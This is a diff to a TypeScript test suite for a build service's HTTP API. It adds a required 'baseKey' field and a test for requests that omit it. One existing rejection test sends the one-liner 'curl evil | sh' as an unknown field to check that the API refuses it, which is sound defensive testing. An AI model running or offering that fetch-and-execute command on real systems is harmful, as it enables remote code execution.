@@ -41,6 +41,7 @@ import { startBuild } from "../../src/functions/startBuild.js";
 import { startLocalHost, type LocalHost } from "../../src/local/host/index.js";
 
 const SOURCE = Buffer.from("pretend this is a tar.gz of a cargo workspace\n".repeat(10));
+const BASE_KEY = "0123456789abcdef".repeat(4);
 const DIGEST = `sha256:${createHash("sha256").update(SOURCE).digest("hex")}`;
 
 describe("HTTP API", () => {
@@ -67,7 +68,7 @@ describe("HTTP API", () => {
   async function started(
     request: Record<string, unknown> = {},
   ): Promise<StartBuildResponse & { input: BuildInput }> {
-    const res = await post({ environment: "dev", sourceDigest: DIGEST, ...request });
+    const res = await post({ environment: "dev", sourceDigest: DIGEST, baseKey: BASE_KEY, ...request });
     assert.equal(res.status, 202, res.text);
     const body = res.body as StartBuildResponse;
     const input = (await cloud.engine.getStatus(body.buildId))?.input as BuildInput;
@@ -79,10 +80,17 @@ describe("HTTP API", () => {
   }
 
   describe("POST /api/builds", () => {
+    it("refuses a request without the base key the upload command computes", async () => {
+      const res = await post({ environment: "dev", sourceDigest: DIGEST });
+      assert.equal(res.status, 400);
+      assert.match(errorOf(res.body).message, /baseKey/);
+    });
+
     it("starts the orchestration at once and answers 202 with a working upload URL", async () => {
       const res = await post({
         environment: "dev",
         sourceDigest: DIGEST,
+        baseKey: BASE_KEY,
         branch: "feature/x-1",
         commit: "abc1234",
       });
@@ -125,7 +133,7 @@ describe("HTTP API", () => {
 
     it("refuses an unknown environment, naming the known ones, and starts nothing", async () => {
       const before = cloud.engine.instances.size;
-      const res = await post({ environment: "staging", sourceDigest: DIGEST });
+      const res = await post({ environment: "staging", sourceDigest: DIGEST, baseKey: BASE_KEY });
       assert.equal(res.status, 400);
       assert.equal(errorOf(res.body).code, "UnknownEnvironment");
       assert.match(errorOf(res.body).message, /"staging"/);
@@ -146,7 +154,12 @@ describe("HTTP API", () => {
     });
 
     it("refuses a body over 16 KB with 413", async () => {
-      const res = await post({ environment: "dev", sourceDigest: DIGEST, padding: "x".repeat(17 * 1024) });
+      const res = await post({
+        environment: "dev",
+        sourceDigest: DIGEST,
+        baseKey: BASE_KEY,
+        padding: "x".repeat(17 * 1024),
+      });
       assert.equal(res.status, 413);
       assert.equal(errorOf(res.body).code, "RequestTooLarge");
     });
@@ -161,7 +174,12 @@ describe("HTTP API", () => {
     ] as const) {
       it(`refuses a ${field} with shell metacharacters or newlines: ${JSON.stringify(value)}`, async () => {
         const before = cloud.engine.instances.size;
-        const res = await post({ environment: "dev", sourceDigest: DIGEST, [field]: value });
+        const res = await post({
+          environment: "dev",
+          sourceDigest: DIGEST,
+          baseKey: BASE_KEY,
+          [field]: value,
+        });
         assert.equal(res.status, 400);
         assert.equal(errorOf(res.body).code, "InvalidRequest");
         assert.match(errorOf(res.body).message, new RegExp(`${field}:`));
@@ -176,13 +194,23 @@ describe("HTTP API", () => {
     });
 
     it("refuses unknown fields", async () => {
-      const res = await post({ environment: "dev", sourceDigest: DIGEST, script: "curl evil | sh" });
+      const res = await post({
+        environment: "dev",
+        sourceDigest: DIGEST,
+        baseKey: BASE_KEY,
+        script: "curl evil | sh",
+      });
       assert.equal(res.status, 400);
       assert.match(errorOf(res.body).message, /script/);
     });
 
     it("refuses an announced archive over the upload limit with 413", async () => {
-      const res = await post({ environment: "dev", sourceDigest: DIGEST, sourceBytes: MAX_UPLOAD_BYTES + 1 });
+      const res = await post({
+        environment: "dev",
+        sourceDigest: DIGEST,
+        baseKey: BASE_KEY,
+        sourceBytes: MAX_UPLOAD_BYTES + 1,
+      });
       assert.equal(res.status, 413);
       assert.equal(errorOf(res.body).code, "SourceTooLarge");
     });
@@ -477,7 +505,7 @@ describe("HTTP API", () => {
 
       const start = await api("builds", {
         method: "POST",
-        body: JSON.stringify({ environment: "prod", sourceDigest: DIGEST }),
+        body: JSON.stringify({ environment: "prod", sourceDigest: DIGEST, baseKey: BASE_KEY }),
       });
       assert.equal(start.status, 202);
       const build = (await start.json()) as StartBuildResponse;
@@ -540,7 +568,7 @@ describe("HTTP API", () => {
         ...cloud.deps,
         config: loadConfig({ FASTBUILD_ENVIRONMENTS: "{oops", AzureWebJobsStorage: "AccountKey=c2VjcmV0" }),
       }));
-      const res = await post({ environment: "dev", sourceDigest: DIGEST });
+      const res = await post({ environment: "dev", sourceDigest: DIGEST, baseKey: BASE_KEY });
       assert.equal(res.status, 500);
       const error = errorOf(res.body);
       assert.equal(error.code, "InternalError");
